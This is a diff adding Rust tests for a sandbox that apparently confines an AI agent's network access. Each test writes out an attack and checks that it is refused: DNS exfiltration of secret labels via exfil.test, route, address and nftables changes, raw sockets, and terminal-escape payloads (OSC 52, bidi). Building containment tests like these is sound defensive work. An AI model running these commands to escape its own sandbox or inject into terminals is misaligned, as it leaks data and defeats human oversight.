+                x = x
+                    .wrapping_mul(6_364_136_223_846_793_005)
+                    .wrapping_add(1_442_695_040_888_963_407);
+                char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[((x >> 64) % 36) as usize])
+            })
+            .collect::<String>()
+    };
+    let secrets = [label(1), label(2), label(3), label(4)];
+    let denied = format!("{}.{}.x.exfil.test", secrets[0], secrets[1]);
+    let unlisted = format!("{}.{}.elsewhere.test", secrets[2], secrets[3]);
+    let script = format!(
+        "getent ahostsv4 {denied} >/dev/null && echo denied=resolved || echo denied=unresolved; \
+         getent ahostsv4 {unlisted} >/dev/null && echo unlisted=resolved || echo unlisted=unresolved; \
+         getent ahostsv4 allowed.test >/dev/null && echo allowed=resolved || echo allowed=unresolved"
+    );
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            "denied=unresolved",
+            "unlisted=unresolved",
+            "allowed=resolved"
+        ],
+        "{r:?}"
+    );
+    let asked = hosts.names_asked();
+    assert!(asked.contains("allowed.test"), "{asked}");
+    for secret in &secrets {
+        assert!(
+            !asked.contains(secret.as_str()),
+            "a label reached the upstream resolver: {asked}"
+        );
+    }
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: take the policy into the agent's own hands — add routes and a default route, add
+/// an address, delete the default route, add a policy rule, a dummy link, enable forwarding,
+/// flush nftables — then try the private test host again. Expected: every change refused, and
+/// the private host still refused afterwards while the public one answers.
+#[test]
+fn the_sandbox_cannot_change_routes_addresses_links_or_rules() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC, PRIVATE[0]]);
+    let ws = dev.workspace("routes");
+    let changes = [
+        ("route", "ip route add 10.99.0.0/24 dev lo"),
+        ("defaultdel", "ip route del default"),
+        ("defaultadd", "ip route add default via 10.0.2.2 metric 1"),
+        ("addr", "ip addr add 10.99.0.77/24 dev lo"),
+        ("rule", "ip rule add from all lookup 100"),
+        ("link", "ip link add lzt0 type dummy"),
+        ("forward", "echo 1 > /proc/sys/net/ipv4/ip_forward"),
+        ("nft", "nft flush ruleset"),
+    ];
+    let mut script = String::new();
+    for (tag, cmd) in changes {
+        script.push_str(&format!(
+            "( {cmd} ) 2>/dev/null && echo {tag}=changed || echo {tag}=refused; "
+        ));
+    }
+    script.push_str(&probes(PRIVATE[0]));
+    script.push_str(&format!(
+        "curl -sS -m 5 -o /dev/null http://{PUBLIC}:{PORT}/ 2>/dev/null && echo public=open || echo public=refused"
+    ));
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let mut want: Vec<String> = changes
+        .iter()
+        .map(|(t, _)| format!("{t}=refused"))
+        .collect();
+    want.extend(verdicts(PRIVATE[0], "refused"));
+    want.push("public=open".into());
+    assert_eq!(lines(&r), want, "{r:?}");
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: open raw and packet sockets (`SOCK_RAW` ICMP and `IPPROTO_RAW`, `AF_PACKET`) to
+/// forge packets below the policy's view. Expected: each fails with EPERM (blocked), not a
+/// socket; CAP_NET_RAW and CAP_NET_ADMIN are not held.
+#[test]
+fn raw_and_packet_sockets_cannot_be_opened() {
+    let dev = Dev::get();
+    let ws = dev.workspace("rawsock");
+    put(
+        &ws,
+        "raw.py",
+        "import socket, errno, re\n\
+         for tag, fam, typ, proto in [(\"icmp\", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n\
+                                      (\"ipraw\", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),\n\
+                                      (\"packet\", socket.AF_PACKET, socket.SOCK_RAW, 0x0300)]:\n\
+         \x20   try:\n\
+         \x20       socket.socket(fam, typ, proto); print(tag + \"=opened\")\n\
+         \x20   except OSError as e:\n\
+         \x20       print(tag + \"=\" + errno.errorcode.get(e.errno, str(e.errno)))\n\
+         c = int(re.search(r\"CapEff:\\s*(\\w+)\", open(\"/proc/self/status\").read()).group(1), 16)\n\
+         print(\"netcaps=\" + (\"none\" if c & (1 << 12 | 1 << 13) == 0 else \"present\"))\n",
+    );
+    let r = ws.run(&["python3", "/workspace/raw.py"]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let got = lines(&r);
+    assert_eq!(got.len(), 4, "{r:?}");
+    for line in &got[..3] {
+        let (_, verdict) = line.split_once('=').unwrap_or(("", ""));
+        assert!(
+            [
+                "EPERM",
+                "EACCES",
+                "EAFNOSUPPORT",
+                "ESOCKTNOSUPPORT",
+                "EPROTONOSUPPORT"
+            ]
+            .contains(&verdict),
+            "a raw socket was not refused as blocked: {line} ({r:?})"
+        );
+    }
+    assert_eq!(got[3], "netcaps=none", "{r:?}");
+    ws.assert_nothing_left();
+}
+
+/// Attack: ask the sidecar for names made of terminal escapes — OSC 52 (set the host
+/// clipboard), `ESC[2J` (clear the screen), a bidi override — so that the developer's
+/// `lazaret net denials` writes them to the host terminal. Expected: the human listing holds no
+/// control byte and shows the names escaped; `--json` is valid JSON with the same escaped text.
+/// (Default deny refuses the names before any upstream is asked: no test host needed.)
+#[test]
+fn escapes_in_a_denied_name_are_shown_escaped_by_net_denials() {
+    let dev = Dev::get();
+    let ws = dev.workspace("denial-escapes").with_profile(
+        "esc",
+        &profile(
+            "esc",
+            "allow_names = [\"allowed.test\"]\ndefault = \"deny\"\n",
+        ),
+    );
+    put(
+        &ws,
+        "ask.py",
+        &format!(
+            "{RAW_DNS}\
+ask(\"osc52\", [b\"\\x1b]52;c;ZXZpbA==\\x07\", b\"test\"])
+ask(\"clear\", [b\"\\x1b[2J\\x1b[H\", b\"test\"])
+ask(\"bidi\", [\"\\u202egnp.exe\".encode(), b\"test\"])
+"
+        ),
+    );
+    let r = ws.run(&["sh", "-c", "python3 /workspace/ask.py; sleep 1.5"]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(lines(&r), ["osc52=5/0", "clear=5/0", "bidi=5/0"], "{r:?}");
+    let human = ws.lazaret(&["net", "denials", "--profile", "esc"]);
+    assert_eq!(human.code, Some(0), "{human:?}");
+    assert!(
+        !human.stdout.chars().any(|c| (c.is_control() && c != '\n')
+            || ('\u{2066}'..='\u{2069}').contains(&c)
+            || ('\u{202a}'..='\u{202e}').contains(&c)),
+        "a control character reached the terminal: {:?}",
+        human.stdout
+    );
+    // DNS presentation form: lower case, every byte but `a-z 0-9 - _` as `\DDD`.
+    for shown in ["\\027\\09352\\059c", "\\027\\0912j", "\\226\\128\\174gnp"] {
+        assert!(
+            human.stdout.to_ascii_lowercase().contains(shown),
+            "{shown} not shown: {}",
+            human.stdout
+        );
+    }
+    let d = denials(&ws, Some("esc"));
+    let names: Vec<&str> = d.iter().filter_map(|e| e["name"].as_str()).collect();
+    assert!(
+        names.iter().any(|n| n.starts_with("\\027\\09352\\059c")),
+        "{names:?}"
+    );
+    assert!(
+        names.iter().all(|n| !n.chars().any(char::is_control)),
+        "{names:?}"
+    );
+    ws.assert_nothing_left();
+}
